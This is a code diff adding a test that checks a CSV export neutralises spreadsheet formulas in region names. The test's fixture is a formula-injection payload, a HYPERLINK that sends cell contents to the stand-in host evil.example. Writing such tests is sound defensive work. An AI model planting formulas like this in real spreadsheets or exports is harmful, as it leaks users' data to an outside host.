@@ -190,3 +190,14 @@ def test_bad_filter_values_are_ignored(client, admin_user, region_site):
     client.force_login(admin_user)
 
     assert client.get(URL, {"region": "x", "school_year": "abc", "granularity": "nope"}).status_code == 200
+
+
+def test_csv_export_neutralises_formulas_in_region_names(client, admin_user, dataset):
+    dataset.a.name = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
+    dataset.a.save()
+    client.force_login(admin_user)
+
+    rows = read_csv(client.get(URL, {"granularity": "school_year", "format": "csv"}))
+
+    assert '\'=HYPERLINK("https://evil.example/?"&A1,"klik")' in [row[0] for row in rows]
+    assert not [row for row in rows if row[0].startswith("=")]
